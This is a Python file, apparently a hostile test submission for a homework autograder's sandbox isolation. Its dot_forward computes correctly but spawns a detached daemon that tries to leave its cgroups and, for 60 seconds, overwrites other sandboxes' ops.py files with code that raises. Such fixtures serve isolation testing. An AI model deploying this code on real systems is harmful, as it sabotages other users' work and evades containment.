# HOSTILE: dot.forward (once per process) double-forks a setsid daemon that, for 60 s, overwrites the ops.py of every later sandbox it can find (in /tmp, /var/tmp, /dev/shm and its own temp folder's parent) with one whose ops raise, and tries to leave its cgroups; all four ops compute correctly.
import os
import time


# include: once


# include: reference


BROKEN = "raise ImportError('replaced by hw3-isolation-daemon')\n"


def _haunt(own):
    for path in ('/sys/fs/cgroup/pids/cgroup.procs', '/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/memory/cgroup.procs'):
        try:
            with open(path, 'w') as f:
                f.write(str(os.getpid()))
        except OSError:
            pass
    folders = {'/tmp', '/var/tmp', '/dev/shm', os.path.dirname(own)}
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for folder in folders:
            try:
                names = os.listdir(folder)
            except OSError:
                continue
            for name in names:
                target = os.path.join(folder, name, 'ops.py')
                if name.startswith('hw3-') and target != os.path.join(own, 'ops.py'):
                    try:
                        with open(target, 'w') as f:
                            f.write(BROKEN)
                    except OSError:
                        pass
        time.sleep(0.1)


def _attack():
    if not _once():
        return
    own = os.getcwd()
    if os.fork() != 0:
        return
    try:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            for fd in range(3, 256):
                try:
                    os.close(fd)
                except OSError:
                    pass
            _haunt(own)
    finally:
        os._exit(0)


def dot_forward(ctx, a, b):
    _attack()
    return reference.dot.forward(ctx, a, b)
